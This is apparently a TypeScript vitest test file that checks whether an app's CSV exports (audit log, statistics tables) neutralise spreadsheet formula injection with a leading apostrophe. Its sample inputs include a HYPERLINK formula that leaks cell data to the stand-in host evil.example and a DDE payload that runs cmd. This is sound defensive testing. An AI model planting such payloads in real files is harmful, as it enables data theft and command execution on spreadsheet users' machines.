import { parse } from "csv-parse/sync";
import { describe, expect, it } from "vitest";
import { auditCsv } from "@/lib/audit/audit-csv";
import type { TAuditEventRow } from "@/lib/audit/search-audit-log";
import { spreadsheetCsv } from "@/lib/csv/spreadsheet-csv";
import { createDashboardLabels } from "@/lib/stats/dashboard-labels";
import { tableCsv } from "@/lib/stats/dashboard-tables";

/** What a spreadsheet would run as a formula (OWASP, CSV injection), as staff or a newcomer could type it. */
const FORMULAS = ['=HYPERLINK("http://evil.example/?leak="&A2,"Open")', "+cmd|' /C calc'!A0", "@SUM(1+1)", "-1+1", "\t=1+1", "\r=1+1", "＝1+1"];

const cellsOf = (csv: string, delimiter: string): string[][] => parse(csv.replace(/^\uFEFF/, ""), { delimiter, relax_column_count: true });
/** A cell a spreadsheet would take as a formula. */
const isFormula = (cell: string) => /^[=+\-@\t\r＝＋－＠]/.test(cell);

describe("every CSV Ankomst writes", () => {
  it.each(["da", "en"] as const)("neutralises formula cells with a leading apostrophe and keeps their text (%s)", (locale) => {
    const csv = spreadsheetCsv([["name", "count"], ...FORMULAS.map((formula, index) => [formula, -index])], locale);
    const rows = cellsOf(csv, locale === "en" ? "," : ";");
    expect(rows.slice(1).map((row) => row[0])).toEqual(FORMULAS.map((formula) => `'${formula}`));
    // Numbers stay numbers, negative ones too.
    expect(rows.slice(1).map((row) => row[1])).toEqual(FORMULAS.map((_, index) => String(-index)));
    expect(spreadsheetCsv([["Søren", "a=b", "Ørsted+1"]], locale)).toContain("Søren");
    // A signed number written as text, as the dashboard's change column is, reads as the number it is.
    expect(cellsOf(spreadsheetCsv([["+14%", "-50 %", "-1.234,5", "+2"]], locale), locale === "en" ? "," : ";")[0]).toEqual(["+14%", "-50 %", "-1.234,5", "+2"]);
    expect(rows.slice(1).every((row) => !isFormula(row[0]!))).toBe(true);
  });

  it("the audit log export: a staff member's name or e-mail never reaches the spreadsheet as a formula", () => {
    const rows: TAuditEventRow[] = FORMULAS.map((formula, index) => ({
      id: BigInt(index),
      occurredAt: new Date("2026-11-20T10:00:00Z"),
      action: "arrival.search",
      entityType: "arrival",
      entityId: formula,
      metadata: { q: formula },
      actor: { name: formula, email: `${formula}@example.org` },
    })) as unknown as TAuditEventRow[];
    const cells = cellsOf(auditCsv(rows, "da"), ";").slice(1).flat();
    expect(cells.filter(isFormula)).toEqual([]);
    expect(cells).toContain(`'${FORMULAS[0]}`);
  });

  it("the statistics tables: no cell is a formula, whatever a row is named", () => {
    const csv = tableCsv(
      { head: ["Land", "Antal"], body: FORMULAS.map((formula) => [formula, 3]), foot: ["I alt", FORMULAS.length * 3] },
      createDashboardLabels("da"),
      "da",
    );
    const cells = cellsOf(csv, ";").flat();
    expect(cells.filter(isFormula)).toEqual([]);
    expect(cells).toContain("21");
  });
});
